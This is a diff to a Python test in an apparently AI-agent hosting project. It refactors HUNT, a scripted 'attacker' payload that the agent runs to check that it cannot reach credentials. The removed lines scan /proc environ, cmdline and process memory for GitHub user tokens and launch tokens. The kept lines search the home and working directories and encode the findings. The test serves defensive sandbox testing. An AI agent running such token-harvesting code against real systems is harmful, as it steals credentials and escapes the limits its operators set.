@@ -34,6 +34,7 @@ from squadron.agent.wiring import copilot_route
 from squadron.config import load_directory
 from squadron.domain.commands import TaskEnded
 from tests.agent.test_agent_host import CLI, ROOT, _tool_results, cli_env, run, stack_for
+from tests.support.hunt import SEARCH_PROCESSES
 from tests.support.scripted_model import Say, ScriptedModel, ToolCall
 
 pytestmark = pytest.mark.agent
@@ -43,39 +44,15 @@ MODEL = "claude-sonnet-4.5"
 #: The attacker, as the agent's own user: any GitHub user token (the real one's shape) searched for
 #: everywhere it can read (it is not told the real one: its own memory would hold it), then
 #: the gateway used with the launch's token it finds (its address is in the CLI's environment).
-HUNT = r"""
+HUNT = (
+    SEARCH_PROCESSES
+    + r"""
 import base64, json, os, re, sys, urllib.error, urllib.request
 real = re.compile(rb"ghu_[0-9a-f]{36}")  # a GitHub user token's shape (the seat's token is one)
 launch = re.compile(rb"sqmg-[A-Za-z0-9_-]{43}")
 door = re.compile(rb"COPILOT_DEBUG_GITHUB_API_URL=(http://127\.0\.0\.1:[0-9]{2,5})")
-got = {"real": set(), "launch": set(), "doors": set(), "memories": 0, "valid": 0, "calls": {}}
-for pid in filter(str.isdigit, os.listdir("/proc")):
-    for part in ("environ", "cmdline"):
-        try:
-            data = open(f"/proc/{pid}/{part}", "rb").read()
-        except OSError:
-            continue
-        got["real"].update(m.decode() for m in real.findall(data))
-        got["launch"].update(m.decode() for m in launch.findall(data))
-        got["doors"].update(m.decode() for m in door.findall(data))
-    try:
-        maps = open(f"/proc/{pid}/maps").read().splitlines()
-        mem = open(f"/proc/{pid}/mem", "rb", 0)
-    except OSError:
-        continue
-    got["memories"] += 1
-    for line in maps:
-        span, perms = line.split()[:2]
-        start, end = (int(x, 16) for x in span.split("-"))
-        if "r" not in perms or end - start > 1 << 28:
-            continue
-        try:
-            mem.seek(start)
-            data = mem.read(end - start)
-        except (OSError, ValueError, OverflowError):
-            continue
-        got["real"].update(m.decode() for m in real.findall(data))
-        got["launch"].update(m.decode() for m in launch.findall(data))
+found, memories = search_processes({"real": real, "launch": launch, "doors": door}, memory=("real", "launch"))
+got = {**found, "memories": memories, "valid": 0, "calls": {}}
 for top in (os.environ.get("HOME", "/"), os.getcwd()):
     for where, _, names in os.walk(top):
         for name in names:
@@ -115,6 +92,7 @@ for github in sorted(got["doors"]):
 got["real"], got["launch"], got["doors"] = sorted(got["real"]), len(got["launch"]), sorted(got["doors"])
 print("got", base64.b64encode(json.dumps(got).encode()).decode())  # as data, whatever the CLI shows
 """
+)
 
 
 #: The role's model as Copilot's catalog lists it (chat completions only: what the scripted model serves).
